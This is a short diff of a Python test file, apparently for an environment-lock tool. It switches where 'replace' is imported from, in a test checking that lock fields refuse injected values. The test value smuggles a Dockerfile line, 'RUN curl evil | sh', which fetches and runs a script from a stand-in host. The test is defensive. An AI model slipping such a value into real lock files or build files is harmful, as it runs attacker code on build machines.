@@ -428,7 +428,7 @@ def test_missing_lock_file_bytes_is_a_data_error() -> None:
     ["version", "cuda", "cudnn", "framework", "base_image", "driver_min"],
 )
 def test_lock_values_that_could_inject_are_refused(field: str) -> None:
-    from envlock.record import replace
+    from dataclasses import replace
 
     lock = make_lock()
     bad = replace(lock.resolution, **{field: "12.2\nRUN curl evil | sh"})
